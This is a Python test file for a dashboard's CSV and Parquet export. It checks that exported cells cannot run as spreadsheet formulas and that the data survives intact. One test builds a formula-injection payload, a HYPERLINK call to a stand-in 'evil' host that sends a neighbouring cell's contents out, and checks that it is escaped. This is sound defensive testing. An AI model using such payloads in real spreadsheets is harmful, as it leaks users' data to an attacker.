"""Exports: a CSV that spreadsheets can open safely and that loses nothing, and a Parquet that is exact."""

import csv
import io
import json
from datetime import UTC, datetime

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from dashboard.ui import export

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read(content: bytes) -> list[list[str]]:
    """What a spreadsheet reads: the standard library's reader, which is not the writer under test."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_begins_like_a_formula_is_text(start):
    harmful = f'{start}HYPERLINK("http://evil?"&A1)'
    rows = read(export.csv_bytes(pl.DataFrame({start + "name": [harmful, f"  {harmful}"]})))
    assert rows == [[f"'{start}name"], [f"'{harmful}"], [f"'  {harmful}"]]


def test_numbers_times_and_lists_are_written_as_they_are():
    frame = pl.DataFrame(
        {
            "n": [-1, None], "x": [-0.5, 1e-9], "yes": [True, False],
            "at": pl.Series([datetime(2026, 11, 20, 12, 0, 0, 5, tzinfo=UTC), None], dtype=pl.Datetime("us", "UTC")),
            "list": [["=1", "é"], []], "record": [{"a": 1}, {"a": None}], "text": ["a,b\n\"c\"", None],
        }
    )  # fmt: skip
    head, first, second = read(export.csv_bytes(frame))
    assert head == frame.columns
    assert first[:4] == ["-1", "-0.5", "true", "2026-11-20T12:00:00.000005Z"]
    assert json.loads(first[4]) == ["=1", "é"]
    assert json.loads(first[5]) == {"a": 1}
    assert first[6] == 'a,b\n"c"'
    assert float(second[1]) == 1e-9
    assert second[3] == ""


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30), min_size=1, max_size=20))
def test_no_cell_is_a_formula_and_no_text_is_lost(texts):
    # A row of one empty cell cannot be told from an empty line.
    frame = pl.DataFrame({"text": texts, "end": ["x"] * len(texts)})
    cells = [row[0] for row in read(export.csv_bytes(frame))[1:]]
    assert not any(cell.lstrip().startswith(STARTS) for cell in cells)
    for cell, text in zip(cells, texts, strict=True):
        assert cell == text or cell == f"'{text}"


def test_parquet_is_exact():
    frame = pl.DataFrame({"text": ["=1", None], "list": [[1.5], []]})
    assert_frame_equal(pl.read_parquet(io.BytesIO(export.parquet_bytes(frame))), frame)


def test_an_empty_table_has_its_header():
    assert read(export.csv_bytes(pl.DataFrame(schema={"a": pl.String(), "b": pl.Int64()}))) == [["a", "b"]]
